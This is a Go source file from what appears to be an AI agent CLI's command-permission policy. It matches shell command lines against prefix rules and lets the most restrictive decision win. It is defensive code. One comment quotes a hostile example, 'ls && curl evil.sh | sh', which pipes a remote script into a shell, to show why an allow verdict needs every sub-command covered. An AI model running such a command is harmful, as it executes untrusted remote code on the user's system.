package policy

import "github.com/vizi2000/agentzero-cli/internal/security"

// Evaluation is the outcome of matching a command against the rule set.
type Evaluation struct {
	// Decision is the aggregate decision: the highest (most restrictive)
	// decision among matching rules, across all sub-commands.
	Decision security.Decision
	// Justification comes from the highest-decision matched rule.
	Justification string
	// Matched is false when no rule applied anywhere; the caller then
	// falls through to its own default.
	Matched bool
}

// Policy holds prefix rules indexed by program name for fast lookup.
// Rules whose first token is an alternative set live under the "" key.
type Policy struct {
	rulesByProgram map[string][]*PrefixRule
	count          int
}

// NewPolicy creates an empty policy.
func NewPolicy() *Policy {
	return &Policy{rulesByProgram: make(map[string][]*PrefixRule)}
}

// Add indexes a rule by its pattern's program name.
func (p *Policy) Add(r *PrefixRule) {
	name := r.Pattern.Program()
	p.rulesByProgram[name] = append(p.rulesByProgram[name], r)
	p.count++
}

// Len returns the number of rules.
func (p *Policy) Len() int {
	return p.count
}

// Merge adds all rules from another policy.
func (p *Policy) Merge(other *Policy) {
	for key, rules := range other.rulesByProgram {
		p.rulesByProgram[key] = append(p.rulesByProgram[key], rules...)
		p.count += len(rules)
	}
}

// Check evaluates a single argv against the rules. When several rules
// match, the highest decision wins.
func (p *Policy) Check(cmd []string) Evaluation {
	if len(cmd) == 0 {
		return Evaluation{}
	}

	eval := Evaluation{Decision: security.DecisionAuto}
	for _, r := range append(p.rulesByProgram[cmd[0]], p.rulesByProgram[""]...) {
		if !r.Pattern.Matches(cmd) {
			continue
		}
		eval.Matched = true
		if r.Decision >= eval.Decision {
			eval.Decision = r.Decision
			if r.Justification != "" {
				eval.Justification = r.Justification
			}
		}
	}
	if !eval.Matched {
		return Evaluation{}
	}
	return eval
}

// CheckCommandLine splits a shell command line on safe operators and
// aggregates Check over the sub-commands. The most restrictive decision
// across sub-commands wins; a command line the splitter cannot vouch for
// (redirections, substitutions, background jobs) matches no rules.
func (p *Policy) CheckCommandLine(command string) Evaluation {
	cmds := SplitCommands(command)
	if cmds == nil {
		return Evaluation{}
	}

	aggregate := Evaluation{Decision: security.DecisionAuto}
	anyMatched := false
	allMatched := true
	for _, cmd := range cmds {
		eval := p.Check(cmd)
		if !eval.Matched {
			allMatched = false
			continue
		}
		anyMatched = true
		if eval.Decision >= aggregate.Decision {
			aggregate.Decision = eval.Decision
			if eval.Justification != "" {
				aggregate.Justification = eval.Justification
			}
		}
	}

	// An allow verdict requires every sub-command to be covered; letting
	// "ls && curl evil.sh | sh" through because ls matched would defeat
	// the point. Restrictive verdicts apply on any match.
	if !anyMatched {
		return Evaluation{}
	}
	if aggregate.Decision == security.DecisionAuto && !allMatched {
		return Evaluation{}
	}
	aggregate.Matched = true
	return aggregate
}
